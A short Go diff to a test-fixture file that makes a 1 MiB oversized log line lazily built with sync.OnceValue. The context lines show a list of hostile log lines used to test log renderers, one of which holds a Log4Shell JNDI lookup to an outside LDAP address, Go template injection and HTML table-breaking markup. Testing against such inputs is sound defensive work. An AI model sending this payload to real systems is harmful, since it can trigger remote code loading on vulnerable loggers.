@@ -1,6 +1,9 @@
 package demo
 
-import "strings"
+import (
+	"strings"
+	"sync"
+)
 
 // hostileLines are what attackers put into logs, so that every renderer and
 // deliverer is exercised on them: Markdown table breakers, HTML, Slack
@@ -16,5 +19,8 @@ var hostileLines = []string{
 	"ERROR probe {{.Secret}} {{template \"x\"}} ${jndi:ldap://203.0.113.9/a} </td></tr></table><!-- -->",
 }
 
-// oversizeLine is a single 1 MiB log event (a padded header), built once.
-var oversizeLine = "ERROR oversized header X-Pad: " + strings.Repeat("A", 1<<20)
+// oversizeLine is a single 1 MiB log event (a padded header), built on
+// first use so that a program that never scans the DMZ group never holds it.
+var oversizeLine = sync.OnceValue(func() string {
+	return "ERROR oversized header X-Pad: " + strings.Repeat("A", 1<<20)
+})
